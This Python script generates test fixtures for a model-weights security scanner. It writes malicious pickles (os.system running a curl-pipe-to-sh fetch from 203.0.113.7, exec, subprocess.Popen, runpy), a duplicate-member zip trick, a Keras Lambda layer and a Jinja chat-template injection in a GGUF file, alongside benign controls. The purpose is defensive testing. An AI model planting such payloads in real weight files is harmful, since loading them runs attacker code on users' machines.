#!/usr/bin/env python3
"""Writes the weights rules' test files (X/ beside each X.rule), annotated by their names
(ruleid-*, ok-*; see cli/rule_tests.cpp). Run it again after changing it; its output is
committed. It only *writes* pickles (pickle.dumps of objects whose __reduce__ names a callable):
nothing is ever loaded, and no named callable is called."""
import io
import json
import os
import pickle
import struct
import sys
import zipfile
from collections import OrderedDict

HERE = os.path.dirname(os.path.abspath(__file__))


class Named:
    """A stand-in callable that pickles as GLOBAL module.name without importing it."""

    def __init__(self, module, name):
        self.__module__, self.__qualname__, self.__name__ = module, name, name

    def __reduce__(self):
        return self.__qualname__

    def __call__(self, *args):
        raise RuntimeError("a stand-in: never called")


def named_pickle(module, name, args, protocol):
    # Pickle checks a global by importing its module and looking the name up: a fake module
    # (and fake parents) holds the stand-in for the duration; the real module is never used.
    import types
    parts = module.split(".")
    prefixes = [".".join(parts[:i]) for i in range(1, len(parts) + 1)]
    saved = {p: sys.modules.get(p) for p in prefixes}
    target = Named(module, name)
    for p in prefixes:
        sys.modules[p] = types.ModuleType(p)
    setattr(sys.modules[module], name, target)
    try:
        class R:
            def __reduce__(self):
                return (target, args)
        return pickle.dumps(R(), protocol=protocol)
    finally:
        for p, old in saved.items():
            if old is None:
                del sys.modules[p]
            else:
                sys.modules[p] = old


def torch_zip(pickle_bytes, compress=zipfile.ZIP_STORED, name="archive/data.pkl"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compress) as z:
        z.writestr(name, pickle_bytes)
        z.writestr("archive/version", "3\n")
        z.writestr("archive/data/0", bytes(range(256)) * 4)
    return out.getvalue()


def write(rule, name, data):
    os.makedirs(os.path.join(HERE, rule), exist_ok=True)
    with open(os.path.join(HERE, rule, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


def state_dict_pickle():
    # What torch.save writes for a state dict, by hand (no torch here): an OrderedDict of
    # tensors rebuilt by torch._utils._rebuild_tensor_v2 from persistent storages.
    return (b"\x80\x02ccollections\nOrderedDict\nq\x00)Rq\x01X\x06\x00\x00\x00weightq\x02"
            b"ctorch._utils\n_rebuild_tensor_v2\nq\x03((X\x07\x00\x00\x00storageq\x04ctorch\nFloatStorage\nq\x05"
            b"X\x01\x00\x00\x000q\x06X\x03\x00\x00\x00cpuq\x07K\x04tq\x08QK\x00K\x04\x85q\tK\x01\x85q\n\x89"
            b"ccollections\nOrderedDict\nq\x0b)Rq\x0ctq\rRq\x0es}q\x0fX\x08\x00\x00\x00_versionq\x10K\x01sb.")


def main():
    dangerous = "weights-pickle-dangerous-callable"
    write(dangerous, "ruleid-protocol0.pkl", "cos\nsystem\n(S'curl -s http://203.0.113.7/x | sh'\ntR.")
    write(dangerous, "ruleid-posix-memo.bin", named_pickle("posix", "system", ("id",), 4))
    write(dangerous, "ruleid-named-like-text.txt", named_pickle("builtins", "exec", ("import os",), 2))
    write(dangerous, "ruleid-deflated-member.pt",
          torch_zip(named_pickle("subprocess", "Popen", (["sh", "-c", "id"],), 2), zipfile.ZIP_DEFLATED))
    write(dangerous, "ruleid-second-pickle.pt",
          pickle.dumps(OrderedDict(a=1), protocol=2) + named_pickle("runpy", "run_path", ("/tmp/x.py",), 2))
    write(dangerous, "ok-state-dict.pt", torch_zip(state_dict_pickle()))
    write(dangerous, "ok-ordered-dict.pkl", pickle.dumps(OrderedDict(a=1, b=[1, 2]), protocol=4))
    write(dangerous, "ok-custom-class.pkl", named_pickle("mymodel.layers", "CustomLayer", (3,), 2))
    write(dangerous, "ok-notes.txt", "cos is a function; see the notes below.\n")

    unknown = "weights-pickle-unknown-callable"
    write(unknown, "ruleid-custom-class.pkl", named_pickle("mymodel.layers", "CustomLayer", (3,), 2))
    write(unknown, "ok-state-dict.pt", torch_zip(state_dict_pickle()))
    write(unknown, "ok-dangerous-is-not-unknown.pkl", named_pickle("os", "system", ("id",), 2))

    unreadable = "weights-unreadable"
    write(unreadable, "ruleid-truncated.pkl", named_pickle("os", "system", ("id",), 2)[:-6])
    write(unreadable, "ok-whole.pkl", pickle.dumps([1, 2, 3], protocol=2))

    anomaly = "weights-archive-anomaly"
    good = torch_zip(state_dict_pickle())
    write(anomaly, "ok-clean.pt", good)
    # Two members of one name: loaders take one, scanners may check the other.
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("archive/data.pkl", state_dict_pickle())
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            z.writestr("archive/data.pkl", named_pickle("os", "system", ("id",), 2))
    write(anomaly, "ruleid-duplicate-member.pt", out.getvalue())
    # A flipped byte in a stored member's data: its CRC no longer holds.
    bad = bytearray(good)
    at = bad.find(b"_version")
    bad[at] ^= 0x20
    write(anomaly, "ruleid-bad-crc.pt", bytes(bad))

    keras = "weights-keras-lambda"

    def keras_file(layers):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("metadata.json", json.dumps({"keras_version": "3.3.3"}))
            z.writestr("config.json", json.dumps({
                "module": "keras", "class_name": "Sequential",
                "config": {"name": "sequential", "layers": layers}}))
            z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))
        return out.getvalue()

    dense = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "dense", "units": 4}}
    lam = {"module": "keras.layers", "class_name": "Lambda",
           "config": {"name": "lambda", "function": {"class_name": "__lambda__",
                                                     "config": {"code": "4wEAAAAAAAAA", "defaults": None}}}}
    write(keras, "ruleid-lambda.keras", keras_file([dense, lam]))
    write(keras, "ok-dense.keras", keras_file([dense]))

    def gguf(template):
        def string(s):
            b = s.encode()
            return struct.pack("<Q", len(b)) + b
        kvs = [("general.architecture", "llama"), ("tokenizer.chat_template", template)]
        body = b"GGUF" + struct.pack("<I", 3) + struct.pack("<Q", 0) + struct.pack("<Q", len(kvs))
        for key, value in kvs:
            body += string(key) + struct.pack("<I", 8) + string(value)
        return body

    benign = "{% for m in messages %}<|{{ m.role }}|>{{ m.content }}{% endfor %}"
    hostile = "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"
    write("weights-chat-template", "ruleid-template.gguf", gguf(benign))
    write("weights-chat-template", "ok-no-template.gguf", gguf("")[:0] or b"GGUF" + struct.pack("<IQQ", 3, 0, 0))
    write("weights-chat-template-code", "ruleid-injection.gguf", gguf(hostile))
    write("weights-chat-template-code", "ok-plain-template.gguf", gguf(benign))


if __name__ == "__main__":
    main()
